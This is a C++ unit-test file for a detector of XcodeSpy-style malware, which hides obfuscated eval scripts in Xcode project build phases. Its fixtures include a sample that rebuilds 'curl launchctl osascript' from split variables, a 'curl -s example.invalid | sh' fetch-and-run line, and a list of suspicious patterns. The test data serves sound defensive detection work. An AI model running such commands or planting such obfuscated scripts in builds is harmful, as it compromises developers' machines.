#include "detectors/xcodespy/XcodeSpyScanner.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "platform/Unicode.h"
#include "support/LogCapture.h"
#include "support/TempTree.h"

namespace quillon::detectors::xcodespy {
namespace {

using platform::FileURL;
using Strings = std::vector<std::string>;

const std::string kWorkedScript =
    R"(a='cu';b='rl';c='la';d='unch';e='ctl';f='osa';g='scr';h='ipt';eval "$a$b $c$d$e $f$g$h")";
const std::string kWorkedReconstruction =
    "a=cu;b=rl;c=la;d=unch;e=ctl;f=osa;g=scr;h=ipt;curl launchctl osascript";

// The script as a project file stores it inside a quoted string.
std::string projectFileWith(std::initializer_list<std::string> scripts) {
    std::string file = "// !$*UTF8*$!\n{\n";
    for (const auto& script : scripts) {
        file +=
            "\t\tshellScript = \"" + platform::replaceAllLiteral(script, "\"", "\\\"") + "\";\n";
    }
    return file + "}\n";
}

std::size_t countStartingWith(const Strings& messages, std::string_view prefix) {
    return static_cast<std::size_t>(
        std::count_if(messages.begin(), messages.end(),
                      [&](const std::string& m) { return m.starts_with(prefix); }));
}

TEST(XcodeSpyScanner, CanScan) {
    const XcodeSpyScanner scanner;
    EXPECT_TRUE(scanner.canScan(FileURL("/p/project.PBXPROJ", false)));
    EXPECT_TRUE(scanner.canScan(FileURL("/p/build.sh", false)));
    EXPECT_FALSE(scanner.canScan(FileURL("/p/Base.xcconfig", false)));
    EXPECT_FALSE(scanner.canScan(FileURL("/p/Info.plist", false)));
    EXPECT_FALSE(scanner.canScan(FileURL("/p/Makefile", false)));
}

TEST(XcodeSpyScanner, CountSuspiciousCommands) {
    const XcodeSpyScanner scanner;
    const std::pair<const char*, std::int64_t> cases[] = {
        {"bash", 2},     {"launchctl", 2}, {"/private/tmp/", 2}, {"CURL", 1}, {"curl curl curl", 1},
        {"https://", 1}, {"", 0},          {"cdnroute.ru", 1},
    };
    for (const auto& [text, count] : cases) {
        SCOPED_TRACE(text);
        EXPECT_EQ(scanner.countSuspiciousCommands(text), count);
    }
}

std::string obfuscationScript(int assignments, int expansions, const std::string& evalWord) {
    std::string script;
    for (int i = 0; i < assignments; ++i) {
        script += std::string(1, static_cast<char>('a' + i)) + "='x';";
    }
    script += evalWord + " ";
    for (int i = 0; i < expansions; ++i) {
        script += "$" + std::string(1, static_cast<char>('a' + i));
    }
    return script;
}

TEST(XcodeSpyScanner, IsObfuscatedThresholds) {
    const XcodeSpyScanner scanner;
    struct Case {
        const char* name;
        std::string script;
        bool obfuscated;
    };
    const Case cases[] = {
        {"eightEightEvalInCapitals", obfuscationScript(8, 8, "EVAL"), true},
        {"sevenAssignments", obfuscationScript(7, 8, "eval"), false},
        {"sevenExpansions", obfuscationScript(8, 7, "eval"), false},
        {"noEval", obfuscationScript(8, 8, "run"), false},
        // Each of the first four would make eight if it counted.
        {"assignmentsThatDoNotCount",
         "a1='x';b_='x';c='';d='123456789';a='1';b='1';c='1';d='1';e='1';f='1';g='1';"
         "eval $a$b$c$d$e$f$g$h",
         false},
        {"expansionsThatDoNotCount",
         "a='1';b='1';c='1';d='1';e='1';f='1';g='1';h='1';eval $a$b$c$d$e$f$g${h}$1$_x", false},
        {"unanchoredAssignmentCountsOnce",
         "abcdef='x';b='1';c='1';d='1';e='1';f='1';g='1';h='1';eval $a$b$c$d$e$f$g$h", true},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.name);
        EXPECT_EQ(scanner.isObfuscated(c.script), c.obfuscated);
    }
}

TEST(XcodeSpyScanner, UnescapingReplacementsInOrder) {
    const std::pair<std::string, std::string> cases[] = {
        {R"(echo \"hi\")", R"(echo "hi")"},
        {R"(a\\nb)", "a\nb"},
        {R"(a\nb)", R"(a\nb)"},
        {R"(x\\\"y)", R"(x\\"y)"},
    };
    for (const auto& [block, script] : cases) {
        SCOPED_TRACE(block);
        EXPECT_EQ(XcodeSpyScanner::unescape(block), script);
    }
}

TEST(XcodeSpyScanner, Reconstruction) {
    const XcodeSpyScanner scanner;
    const std::pair<std::string, std::string> cases[] = {
        {kWorkedScript, kWorkedReconstruction},
        {"a='cu';b='rl';eval \"$a$b\"", "a=cu;b=rl;curl"},
        {"a='1';a='2';echo $a", "a=1;a=2;echo 2"},
        {"a='x';echo ${a}", "a=x;echo ${a}"},
        {"a='v';echo $ab", "a=v;echo vb"},
        {"a=b;echo $a", "a=b;echo $a"},
        {"a=\"it's\"", "a=its"},
        {"  echo a\\nb  \n", "echo a\nb"},
        {"b='$a';a='z';echo $b", "b=z;a=z;echo z"},
        {"", ""},
    };
    for (const auto& [script, reconstructed] : cases) {
        SCOPED_TRACE(script);
        EXPECT_EQ(scanner.deobfuscate(script), reconstructed);
    }
}

TEST(XcodeSpyScanner, PassesAreLoggedAndCapped) {
    const XcodeSpyScanner scanner;
    {
        testing::LogCapture log;
        EXPECT_EQ(scanner.deobfuscate(""), "");
        EXPECT_EQ(
            log.leveled(),
            (Strings{"info Found 0 variable assignments",
                     "debug Reconstruction iteration 1: ", "debug Final reconstructed script: "}));
    }
    {
        testing::LogCapture log;
        const std::string result = scanner.deobfuscate("a='x$a';echo $a");
        const Strings messages = log.messages();
        EXPECT_EQ(countStartingWith(messages, "Reconstruction iteration"), 10u);
        EXPECT_EQ(std::count(messages.begin(), messages.end(),
                             "Reconstruction iteration 10: a='x" + std::string(10, 'x') +
                                 "$a';echo " + std::string(10, 'x') + "$a"),
                  1);
        EXPECT_EQ(result, "a=x" + std::string(10, 'x') + "$a;echo " + std::string(10, 'x') + "$a");
    }
}

TEST(XcodeSpyScanner, ReconstructionGrowthIsBounded) {
    const XcodeSpyScanner scanner;
    {
        // Eight copies of its own token: 8^10 times larger without a bound.
        testing::LogCapture log;
        const std::string script = "a='$a$a$a$a$a$a$a$a';eval \"$a\"";
        const std::string result = scanner.deobfuscate(script);
        EXPECT_LE(result.size(), XcodeSpyScanner::reconstructionLimit(script.size()));
        EXPECT_GT(result.size(), XcodeSpyScanner::reconstructionLimit(script.size()) / 2);
        const Strings messages = log.messages();
        EXPECT_EQ(countStartingWith(messages, "Reconstruction stopped in iteration"), 1u);
        EXPECT_LT(countStartingWith(messages, "Reconstruction iteration"), 10u);
        EXPECT_EQ(result.find_first_of("\"'"), std::string::npos);  // clean-up still ran
    }
    {
        // A command hidden in a large value used many times still shows in the reconstruction.
        const std::string value = "curl -s example.invalid | sh;" + std::string(100000, ' ');
        std::string script = "a='" + value + "';";
        for (int i = 0; i < 200; ++i) {
            script += "$a";
        }
        const std::string result = scanner.deobfuscate(script);
        EXPECT_LE(result.size(), XcodeSpyScanner::reconstructionLimit(script.size()));
        std::size_t copies = 0;
        for (std::size_t at = result.find("curl"); at != std::string::npos;
             at = result.find("curl", at + 1)) {
            ++copies;
        }
        EXPECT_GE(copies, 10u);
        EXPECT_NE(result.find("$a"), std::string::npos);  // the rest left as it was
    }
}

TEST(XcodeSpyScanner, WorkedExampleEndToEnd) {
    testing::TempTree tree;
    const FileURL file =
        tree.write("App.xcodeproj/project.pbxproj", projectFileWith({kWorkedScript}));
    testing::LogCapture log;
    const XcodeSpyScanner scanner;
    const auto result = scanner.scan(file);
    EXPECT_EQ(result.riskScore, 100);
    EXPECT_EQ(result.findings,
              (Strings{"Obfuscated build script detected", "Original Script:", kWorkedScript,
                       "Reconstructed Script:", kWorkedReconstruction}));
    Strings expected = {
        "info Starting XcodeSpy scan for file: " + file.path(),
        "info Found 1 shellScript blocks in project.pbxproj",
        "info ----- Shell Script Block 1 -----",
        "debug Original Script: " + kWorkedScript,
        "info Found 8 variable assignments",
    };
    for (const char* assignment :
         {"a = cu", "b = rl", "c = la", "d = unch", "e = ctl", "f = osa", "g = scr", "h = ipt"}) {
        expected.push_back(std::string("debug Variable ") + assignment);
    }
    const std::string afterPass =
        R"(a='cu';b='rl';c='la';d='unch';e='ctl';f='osa';g='scr';h='ipt';eval "curl launchctl osascript")";
    const Strings rest = {
        "debug Reconstruction iteration 1: " + afterPass,
        "debug Reconstruction iteration 2: " + afterPass,
        "debug Final reconstructed script: " + kWorkedReconstruction,
        "debug Deobfuscated Script: " + kWorkedReconstruction,
        "debug Suspicious command count for script: 2",
        "debug Suspicious command count for script: 4",
        "info Short variable count: 8",
        "info Variable expansion count: 8",
        "info Has eval: true",
        "debug Suspicious command count for script: 2",
        "debug Suspicious command count for script: 4",
        "info Matched suspicious patterns: curl, osascript, launchctl",
        "info Short variable count: 8",
        "info Variable expansion count: 8",
        "info Has eval: true",
        "info Original indicator count: 2",
        "info Reconstructed indicator count: 4",
        "info Obfuscated: true",
        "info Malicious: true",
        "error Potential XcodeSpy-style payload detected in project.pbxproj",
        "info Completed XcodeSpy scan for project.pbxproj. Findings: 5",
    };
    expected.insert(expected.end(), rest.begin(), rest.end());
    EXPECT_EQ(log.leveled("XcodeSpyScanner"), expected);
    for (const auto& record : log.records()) {
        EXPECT_EQ(record.subsystem, "com.yourapp.security");
    }
}

TEST(XcodeSpyScanner, VerdictCases) {
    const XcodeSpyScanner scanner;
    std::string withoutH = kWorkedScript;
    withoutH.erase(withoutH.find("h='ipt';"), 8);
    struct Case {
        const char* name;
        std::string script;
        bool malicious;
    };
    const Case cases[] = {
        {"workedExample", kWorkedScript, true},
        {"sevenAssignmentsIsClean", withoutH, false},
        // The only eval goes with the clean-up and nothing new comes to light: fewer commands.
        {"evalOnlyLosesItsIndicator",
         "a='x';b='x';c='x';d='x';e='x';f='x';g='x';h='x';eval \"$a$b$c$d$e$f$g$h\"", false},
        // Equal counts qualify: eval is lost, curl comes to light by joining quoted pieces.
        {"equalCountsQualify",
         "a='x';b='x';c='x';d='x';e='x';f='x';g='x';h='x';eval 'cu''rl' $a$b$c$d$e$f$g$h", true},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.name);
        EXPECT_EQ(scanner.isMalicious(c.script, scanner.deobfuscate(c.script)), c.malicious);
    }
}

TEST(XcodeSpyScanner, BlocksAreFoundAndNumbered) {
    testing::TempTree tree;
    const std::string second =
        R"(a='wg';b='et';c='la';d='unch';e='ctl';f='osa';g='scr';h='ipt';eval "$a$b $c$d$e $f$g$h")";
    const struct {
        const char* name;
        std::string content;
        std::size_t blocks;
        std::size_t findings;
    } cases[] = {
        {"none", "// no build phases", 0, 0},
        {"capitals", "SHELLSCRIPT = \"x\";", 1, 0},
        {"lineBreaksAroundEquals", "shellScript\n=\n\"x\";", 1, 0},
        {"longerWord", "myShellScript=\"\";", 1, 0},
        {"escapedQuoteStillCloses", "shellScript = \"a\\\";b\";", 1, 0},
        {"twoMaliciousBlocks", projectFileWith({kWorkedScript, second}), 2, 10},
        {"ordinaryShellFile", "#!/bin/sh\necho building\n", 0, 0},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        const FileURL file = tree.write(std::string(c.name) + ".pbxproj", c.content);
        testing::LogCapture log;
        const auto result = XcodeSpyScanner().scan(file);
        EXPECT_EQ(result.findings.size(), c.findings);
        EXPECT_EQ(result.riskScore, c.findings ? 100 : 0);
        const Strings messages = log.messages();
        EXPECT_EQ(std::count(messages.begin(), messages.end(),
                             "Found " + std::to_string(c.blocks) + " shellScript blocks in " +
                                 file.lastPathComponent()),
                  1);
        EXPECT_EQ(countStartingWith(messages, "----- Shell Script Block"), c.blocks);
        if (c.findings == 10) {
            EXPECT_EQ(result.findings[2], kWorkedScript);
            EXPECT_EQ(result.findings[7], second);
            EXPECT_EQ(countStartingWith(messages, "----- Shell Script Block 2 -----"), 1u);
        }
    }
}

TEST(XcodeSpyScanner, EscapedQuoteBlockText) {
    testing::TempTree tree;
    const FileURL file = tree.write("p.pbxproj", "shellScript = \"a\\\";b\";");
    testing::LogCapture log;
    XcodeSpyScanner().scan(file);
    const Strings messages = log.messages();
    EXPECT_EQ(std::count(messages.begin(), messages.end(), "Original Script: a\\"), 1);
}

TEST(XcodeSpyScanner, UnreadableFileIsClean) {
    testing::TempTree tree;
    testing::LogCapture log;
    const FileURL missing = tree.fileURL("gone.pbxproj");
    EXPECT_EQ(XcodeSpyScanner().scan(missing), (core::ScanResult{missing, 0, {}}));
    EXPECT_EQ(log.leveled(), (Strings{"info Starting XcodeSpy scan for file: " + missing.path(),
                                      "error Failed to read file: " + missing.path()}));
}

}  // namespace
}  // namespace quillon::detectors::xcodespy
